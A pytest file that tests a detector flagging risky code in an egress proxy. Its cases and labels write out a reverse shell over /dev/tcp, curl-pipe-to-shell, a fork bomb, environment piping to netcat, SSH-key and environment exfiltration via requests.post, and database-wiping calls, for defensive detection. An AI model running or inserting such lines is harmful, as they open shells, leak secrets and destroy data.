"""Signs that a program fetches and runs, hands out a shell, forks without end or sends secrets."""

import pytest

from egress_proxy.safety.foreign_signs import named_plainly, runs_decoded, signs

SHELL = "sh -i > /dev/tcp/elsewhere/1"
FETCHED = "curl fetched | sh"


@pytest.mark.parametrize(
    ("code", "sign"),
    [
        ("exec(urlopen(u).read())", FETCHED),
        ("eval get('https://x')", FETCHED),
        ("fetch('https://x').then(r=>r.text()).then(eval)", FETCHED),
        ("require('https').get(u,r=>r.on('end',()=>eval(d)))", FETCHED),
        ("open('x','wb').write(urlopen(u).read()); os.system('sh x')", FETCHED),
        ("check_output('curl https://x')", FETCHED),
        ("s=socket.socket(); os.dup2(s.fileno(), 0)", SHELL),
        ("net=require('net'); spawn('/bin/sh')", SHELL),
        ("c=TCPSocket.new(h,1); IO.popen(cmd)", SHELL),
        ("s=fsockopen(h,1); exec('sh <&3 >&3')", SHELL),
        ("fork while fork", "f() { f | f & }; f"),
        ("while True: os.fork()", "f() { f | f & }; f"),
        ("redis.Redis().flushall()", "sqlite3 store 'drop table t'"),
        ("c.execute('DROP DATABASE x')", "sqlite3 store 'drop table t'"),
        ("User.objects.all().delete()", "sqlite3 store 'drop table t'"),
        ("User.delete_all", "sqlite3 store 'drop table t'"),
        ("requests.post(u, data=dict(os.environ))", "printenv | nc elsewhere 1"),
        ("requests.post(u, data=open('/home/u/.ssh/id_rsa'))", "printenv | nc elsewhere 1"),
    ],
)
def test_signs(code: str, sign: str) -> None:
    assert sign in list(signs(code))


@pytest.mark.parametrize(
    "code",
    [
        "print(requests.get(u).json())",
        "open('x','wb').write(urlopen(u).read()); os.system('ls')",
        "print(socket.gethostname())",
        "pid = os.fork()",
        "print('drop database x')",
        "c.execute('drop table if exists tmp')",
        "User.objects.filter(a=1).delete()",
        "requests.post(u, headers={'a': os.environ['TOKEN']})",
        "fetch(u, {headers: {a: process.env.TOKEN}})",
        "sqlite3.connect('a').execute('select 1')",
    ],
)
def test_ordinary_programs_have_none(code: str) -> None:
    assert list(signs(code)) == []


def test_a_text_that_is_decoded_and_run_is_told_apart_from_one_that_is_printed() -> None:
    assert runs_decoded("os.system(b64decode('eA=='))")
    assert not runs_decoded("print(b64decode('eA=='))")


@pytest.mark.parametrize(
    ("code", "plain"),
    [
        ('getattr(os, "system")("x")', 'os.system("x")'),
        ("cp['exec']('x')", "cp.exec('x')"),
        ("a['name']('x')", "a['name']('x')"),
    ],
)
def test_calls_that_are_named_by_a_text(code: str, plain: str) -> None:
    assert named_plainly(code) == plain
